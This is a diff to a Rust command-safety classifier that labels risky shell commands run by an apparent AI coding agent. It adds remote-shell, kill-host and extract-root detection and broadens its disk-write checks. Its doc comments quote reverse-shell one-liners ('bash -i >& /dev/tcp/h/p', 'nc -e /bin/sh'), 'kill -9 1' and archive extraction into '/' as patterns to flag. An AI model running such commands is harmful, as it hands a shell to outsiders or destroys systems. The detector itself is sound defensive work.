@@ -35,6 +35,15 @@
 //!   computed at run time (`… | base64 -d | sh`, `eval "$(…)"`);
 //! * `kill-init`: `kill -9 1`, `kill … -1`, `killall5`, `pkill`/`killall` of every process
 //!   (`pkill -f .`, `pkill -u me`);
+//! * `extract-root`: an archive or patch unpacked into `/`, a top-level directory or a home
+//!   (`tar xf x.tar -C /`, `unzip -o x.zip -d ~`, `cd ~ && tar xf x.tar`), or keeping
+//!   absolute names (`tar -P`, `cpio -i`): it may replace any system or start-up file (see
+//!   [`super::unseen`]);
+//! * `kill-host`: a command that may kill the agent's own host or editor (`pkill node`,
+//!   `killall Code`, `pkill -f cline`, `kill $PPID`, `taskkill /IM node.exe`,
+//!   `Stop-Process -Name node`; see [`host_kill`]);
+//! * `remote-shell`: a shell handed to the network (`bash -i >& /dev/tcp/h/p 0>&1`,
+//!   `nc -e /bin/sh`, `socat TCP:h:p EXEC:sh`, `nc h p | sh`; see [`remote_shell`]);
 //! * `shutdown`: `shutdown`, `reboot`, `halt`, `poweroff`, `init 0|6`, `systemctl poweroff`;
 //! * `force-push`: `git push` with `-f`, `--force`, `--force-with-lease[=…]`, `--mirror`, a
 //!   `+refspec`, or any abbreviation git accepts for them (`--force-w`, `--mirr`; an
@@ -49,11 +58,14 @@
 //! such as `-name` narrows them), from `echo`/`printf` words or `ls`, and are unknown when
 //! read from a file or an unknown command.
 
+mod host_kill;
+mod remote_shell;
 mod targets;
 mod writes;
 
 use std::borrow::Cow;
 
+use super::wrappers::{executed_file, runs_input};
 use super::{names, programs, wrappers, Analysis, Origin, SimpleCommand};
 use crate::exec_places::Place;
 use targets::Reach;
@@ -235,6 +247,12 @@ impl<'a> Line<'a> {
                 labels.extend(reach_label(find.map_or(Reach::Unknown, |f| self.found(f))))
             }
             names::MV if self.moved(c, args) => add_label(&mut labels, "move-root"),
+            // `rsync --remove-source-files ~/ /tmp/x/` moves the home away
+            names::RSYNC
+                if args.iter().any(|w| w == "--remove-source-files") && self.moved(c, args) =>
+            {
+                add_label(&mut labels, "move-root")
+            }
             names::CHMOD if self.recursive_system(c, args) => {
                 add_label(&mut labels, "recursive-chmod-root")
             }
@@ -275,6 +293,18 @@ impl<'a> Line<'a> {
         }
         if shutdown(key, name, args) {
             add_label(&mut labels, "shutdown");
+        }
+        if let Some(super::unseen::Unseen::Extract { into, anywhere }) = super::unseen::unseen(c) {
+            let dir = into.unwrap_or(".");
+            if anywhere || self.scope.reach(c, dir, dir.contains('$')) == Reach::System {
+                add_label(&mut labels, "extract-root");
+            }
+        }
+        if remote_shell::detect(cmds, c) {
+            add_label(&mut labels, "remote-shell");
+        }
+        if host_kill::detect(cmds, index, c) {
+            add_label(&mut labels, "kill-host");
         }
         if key == names::GIT {
             labels.extend(git_push(args));
@@ -694,6 +724,8 @@ fn saved_files(c: &SimpleCommand) -> Vec<Option<String>> {
     let name = c.name().unwrap_or("");
     let wget = name == "wget";
     let (mut named_output, mut remote_name) = (false, wget || name == "aria2c");
+    // `wget -P ~`, `curl --output-dir ~/.ssh -O`: where remote names land
+    let mut dir: Option<Option<String>> = None;
     let mut i = 1;
     let mut urls: Vec<(usize, &String)> = Vec::new();
     while let Some(w) = words.get(i) {
@@ -705,7 +737,15 @@ fn saved_files(c: &SimpleCommand) -> Vec<Option<String>> {
             let (opt, attached) = long
                 .split_once('=')
                 .map_or((long, None), |(o, v)| (o, Some(v)));
-            if matches!(opt, "output" | "output-document" | "out") {
+            if matches!(opt, "directory-prefix" | "output-dir" | "dir") {
+                dir = Some(match attached {
+                    Some(v) => (!v.contains('$') || v.starts_with("$HOME")).then(|| v.to_string()),
+                    None => {
+                        i += 1;
+                        value(i)
+                    }
+                });
+            } else if matches!(opt, "output" | "output-document" | "out") {
                 named_output = true;
                 match attached {
                     Some(v) if v != "-" => {
@@ -728,6 +768,16 @@ fn saved_files(c: &SimpleCommand) -> Vec<Option<String>> {
         } else if let Some(letters) = w.strip_prefix('-').filter(|l| !l.is_empty()) {
             let out_letter = if wget { b'O' } else { b'o' };
             for (j, b) in letters.bytes().enumerate() {
+                if wget && b == b'P' {
+                    let rest = &letters[j + 1..];
+                    dir = Some(if rest.is_empty() {
+                        i += 1;
+                        value(i)
+                    } else {
+                        Some(rest.to_string())
+                    });
+                    break;
+                }
                 if b == out_letter {
                     named_output = true;
                     let rest = &letters[j + 1..];
@@ -763,44 +813,19 @@ fn saved_files(c: &SimpleCommand) -> Vec<Option<String>> {
         for (at, url) in urls {
             let path = url.split(['?', '#']).next().unwrap_or("");
             let file = path.rsplit('/').next().filter(|f| !f.is_empty());
-            push_saved(
-                &mut out,
-                file.filter(|_| !c.is_dynamic(at)).map(String::from),
-            );
+            let file = file.filter(|_| !c.is_dynamic(at));
+            let saved = match &dir {
+                None => file.map(String::from),
+                Some(None) => None,
+                Some(Some(d)) => file.map(|f| format!("{}/{f}", d.trim_end_matches('/'))),
+            };
+            push_saved(&mut out, saved);
         }
     }
     for r in c.redirects.iter().filter(|r| r.writes_file()) {
         push_saved(&mut out, (!r.dynamic).then(|| r.target.clone()));
     }
     out
-}
-
-/// The file `c` runs as a program: its name when it has a directory (`./i.sh`, `/tmp/x`),
-/// the script operand of a shell or an interpreter, the file `source`/`.` reads.
-fn executed_file(c: &SimpleCommand) -> Option<&str> {
-    let first = c.words.first()?;
-    if first.contains('/') {
-        return Some(first);
-    }
-    let key = names::folded_key(c.name()?);
-    if matches!(key, names::SOURCE | names::DOT) {
-        return c.words.get(1).map(String::as_str);
-    }
-    if !runs_input(c) || key == names::EVAL {
-        return None;
-    }
-    let mut rest = c.words.iter().skip(1);
-    while let Some(w) = rest.next() {
-        match w.as_str() {
-            "-c" | "-e" | "-E" | "-m" | "-r" | "--eval" | "--command" => return None,
-            "-o" | "-O" | "--rcfile" | "--init-file" => {
-                rest.next();
-            }
-            _ if w.starts_with('-') => {}
-            _ => return Some(w),
-        }
-    }
-    None
 }
 
 /// Operands of a command (words after options; everything after `--`).
@@ -886,12 +911,27 @@ fn disk_write(key: names::Key, args: &[String]) -> bool {
             .iter()
             .any(|w| normalise(w).starts_with("/dev/") && !harmless_device(w)),
         names::WIPEFS => true,
+        // `ddrescue -f IN OUT`: the output is overwritten
+        _ if key == DDRESCUE => operands(args).last().is_some_and(|w| disk_device(w)),
+        // macOS's disk utility erasing or repartitioning a disk
+        _ if key == DISKUTIL => operands(args).iter().any(|w| {
+            let w = w.to_ascii_lowercase();
+            w.starts_with("erase")
+                || w.starts_with("zero")
+                || w.starts_with("secureerase")
+                || w.starts_with("partitiondisk")
+                || w.starts_with("delete")
+                || w == "reformat"
+        }),
         names::TEE | names::CP | names::MV | names::INSTALL => {
             operands(args).iter().any(|w| disk_device(w))
         }
         _ => key == names::BLKDISCARD || partition_edit(key, args),
     }
 }
+
+const DDRESCUE: names::Key = names::folded_key("ddrescue");
+const DISKUTIL: names::Key = names::folded_key("diskutil");
 
 /// A partition-table editor given a disk and not asked only to list or check (`fdisk -l`,
 /// `sfdisk -d`, `sgdisk -p`, `parted /dev/sda print`).
@@ -962,29 +1002,6 @@ fn is_fetcher(key: names::Key, name: &str) -> bool {
         // entry that is no fetcher is found as itself, so the search answers no for it)
         || (name.bytes().any(|b| b == b'.' || b.is_ascii_digit())
             && programs::lookup_folded(name).is_some_and(|p| p.is_fetcher()))
-}
-
-/// A command that runs what it reads on stdin, or the file a `<(…)` names.
-fn runs_input(c: &SimpleCommand) -> bool {
-    let Some(name) = c.name() else { return false };
-    let key = names::folded_key(name);
-    wrappers::is_shell_key(key)
-        || matches!(
-            key,
-            names::EVAL
-                | names::SOURCE
-                | names::DOT
-                | names::PERL
-                | names::RUBY
-                | names::NODE
-                | names::NODEJS
-                | names::PHP
-                | names::DENO
-                | names::BUN
-                | names::RSCRIPT
-                | names::LUA
-        )
-        || name.starts_with("python")
 }
 
 /// The interpreter reads its program from stdin (no script operand, no `-c`/`-e`/`-m`).
